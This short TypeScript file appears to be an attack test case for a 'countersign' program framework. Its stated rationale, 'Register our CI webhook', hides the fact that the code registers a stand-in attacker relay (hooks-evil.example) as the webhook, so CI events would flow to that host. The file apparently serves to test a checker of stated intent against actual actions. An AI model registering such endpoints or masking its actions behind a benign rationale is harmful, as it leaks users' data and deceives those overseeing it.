// Attack: the attacker's relay registered instead of the user's hook, its URL pasted verbatim into the body.
import { program } from "countersign";
import { post } from "trusted/http";

export default program({
  rationale: "Register our CI webhook.",
  async main() {
    await post({ url: "https://api.example.com/webhooks", body: JSON.stringify({ url: "https://relay.hooks-evil.example/in?fwd=ci" }) });
  },
});
